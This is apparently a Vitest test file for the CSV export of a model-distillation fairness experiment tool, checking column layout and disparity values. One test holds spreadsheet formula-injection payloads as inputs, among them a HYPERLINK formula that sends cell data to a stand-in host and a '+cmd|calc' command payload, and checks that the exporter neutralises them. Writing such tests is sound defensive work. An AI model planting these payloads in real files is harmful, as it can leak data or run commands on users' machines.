import { describe, expect, it } from 'vitest';
import type { ExperimentResult, ModelResult } from '../engine/types';
import { csvCell, resultCsv, runsCsv } from './runFiles';

function model(role: ModelResult['role'], label: string, acc: number, disp: (number | null)[]): ModelResult {
  return {
    role,
    label,
    model: 'm',
    method: role === 'teacher' ? 'none' : 'kd',
    lambda: role === 'teacher' ? 0 : 0.5,
    size: { params: 1234, bytesFloat32: 4936, bytesFloat16: 2468, bytesUint8: 1250, flops: 1000 },
    test: {
      accuracy: acc,
      weighted: { recall: acc, precision: 0.5, f1: 0.6 },
      macro: { recall: 0, precision: 0, f1: 0.55 },
    } as ModelResult['test'],
    fairness: {
      perClass: disp.map((d, i) => ({ classIndex: i, disparity: d, recall: [null, null], support: [0, 0] })),
      meanAbsDisparity: 0.2,
      worstGroupAccuracy: 0.4,
      interval: { meanAbsDisparity: [0.1, 0.3], accuracy: [0.7, 0.9], resamples: 100 },
    } as unknown as ModelResult['fairness'],
    valAccuracy: [],
    curve: [],
    trainSeconds: 1,
  };
}

const result = {
  config: { seed: 3 },
  dataset: { classNames: ['party', 'Business, formal'], groupNames: ['male', 'female'] },
  teacher: {
    ...model('teacher', 'Teacher', 0.9, [0.1, -0.3]),
    fairness: {
      ...model('teacher', 'T', 0, [0.1, -0.3]).fairness,
      meanAbsDisparity: 0.1,
      meanAbsDisparityFloor: 0.05,
      excessMeanAbsDisparity: 0.05,
    },
  },
  students: [
    {
      ...model('student', 'CKD λ=0.5', 0.85, [0.2, null]),
      fairness: {
        ...model('student', 'S', 0, [0.2, null]).fairness,
        meanAbsDisparityFloor: 0.05,
        excessMeanAbsDisparity: 0.15,
      },
      biasVsTeacherInterval: [0.5, 1.5],
    },
  ],
} as unknown as ExperimentResult;

describe('run files', () => {
  it('writes the table as CSV with quoted cells, empty cells for undefined values, and bias vs teacher', () => {
    const lines = resultCsv(result).trim().split('\n');
    expect(lines[0]).toBe(
      'role,label,method,series,method_params,lambda,seed,params,accuracy,weighted_recall,weighted_precision,weighted_f1,macro_f1,mean_abs_disparity,disparity_ci_low,disparity_ci_high,noise_floor,excess_mean_abs_disparity,excess_ci_low,excess_ci_high,bias_vs_teacher,bias_vs_teacher_ci_low,bias_vs_teacher_ci_high,excess_bias_vs_teacher,excess_bias_vs_teacher_ci_low,excess_bias_vs_teacher_ci_high,excess_change_vs_teacher,accuracy_change_vs_lambda0_points,mean_equalized_odds_gap,mean_demographic_parity_gap,bias_amplification,worst_group_accuracy,counterfactual_flip_rate,disparity_party,"disparity_Business, formal"',
    );
    expect(lines[1]).toBe(
      'teacher,Teacher,none,,,0,3,1234,0.9,0.9,0.5,0.6,0.55,0.1,0.1,0.3,0.05,0.05,,,,,,,,,,,,,,0.4,,0.1,-0.3',
    );
    // student bias 0.2 vs teacher 0.1 → +100%; excess 0.15 vs 0.05 → +200%, a change of +0.1; no λ = 0 of
    // its series → no accuracy change; class 2 undefined → empty cell.
    expect(lines[2]).toBe(
      'student,CKD λ=0.5,kd,CKD,,0.5,3,1234,0.85,0.85,0.5,0.6,0.55,0.2,0.1,0.3,0.05,0.15,,,1,0.5,1.5,2,,,0.1,,,,,0.4,,0.2,',
    );
  });

  it('puts every stored run in one CSV, led by its name, with the union of the runs’ classes', () => {
    const other = { ...result, dataset: { ...result.dataset, classNames: ['party', 'Spa'] } } as ExperimentResult;
    const lines = runsCsv([
      { id: 'r1', name: 'first', createdAt: '', result },
      { id: 'r2', name: 'second', createdAt: '', result: other },
    ])
      .trim()
      .split('\n');
    expect(lines).toHaveLength(1 + 2 + 2);
    expect(lines[0].startsWith('run,run_id,role,label,')).toBe(true);
    expect(lines[0].endsWith(',disparity_party,"disparity_Business, formal",disparity_Spa')).toBe(true);
    // The second run has no "Business, formal" class: its cell is empty; its Spa column is filled.
    expect(lines[3]).toBe(
      'second,r2,teacher,Teacher,none,,,0,3,1234,0.9,0.9,0.5,0.6,0.55,0.1,0.1,0.3,0.05,0.05,,,,,,,,,,,,,,0.4,,0.1,,-0.3',
    );
  });

  it('neutralises every text cell a spreadsheet would run as a formula, in both CSVs, and leaves numbers alone', () => {
    const evil = '=HYPERLINK("http://x/?"&B2,"open me")';
    expect(csvCell(evil)).toBe(`"'=HYPERLINK(""http://x/?""&B2,""open me"")"`);
    for (const lead of ['=', '+', '-', '@', '\t', '\r'])
      expect(
        csvCell(`${lead}1+1`).startsWith(`'`) || csvCell(`${lead}1+1`).startsWith(`"'`),
        JSON.stringify(lead),
      ).toBe(true);
    expect(csvCell('Teacher')).toBe('Teacher');
    expect(csvCell('a=b')).toBe('a=b'); // only a leading character starts a formula
    expect(csvCell(-0.25)).toBe('-0.25'); // a negative number stays a number
    expect(csvCell(1e-7)).toBe('1e-7');
    const hostile = {
      ...result,
      dataset: { ...result.dataset, classNames: ['@SUM(A1)', 'party'] },
      students: [{ ...result.students[0], label: '+cmd|calc' }],
    } as unknown as ExperimentResult;
    const all = runsCsv([{ id: '-r1', name: evil, createdAt: '', result: hostile }]);
    const one = resultCsv(hostile);
    for (const csv of [all, one]) {
      // No cell of either file begins with a formula character once its quotes are taken off.
      const cells = csv
        .trim()
        .split('\n')
        .flatMap((line) => line.match(/("([^"]|"")*"|[^,]*)(,|$)/g)!.map((c) => c.replace(/,$/, '')))
        .map((c) => (c.startsWith('"') ? c.slice(1, -1).replace(/""/g, '"') : c));
      const formulas = cells.filter((c) => /^[=+@\t\r]/.test(c) || /^-[^0-9.]/.test(c));
      expect(formulas).toEqual([]);
    }
    expect(all.split('\n')[1].startsWith(`"'=HYPERLINK(`)).toBe(true);
    expect(all.split('\n')[1]).toContain(`,'-r1,`);
    expect(all.split('\n')[0]).toContain(',disparity_@SUM(A1),'); // a header that does not begin with one stays as it is
    expect(one).toContain(`,'+cmd|calc,`);
    // Negative disparities are written as numbers, not neutralised text.
    expect(one.split('\n')[1].endsWith(',0.1,-0.3')).toBe(true);
  });
});
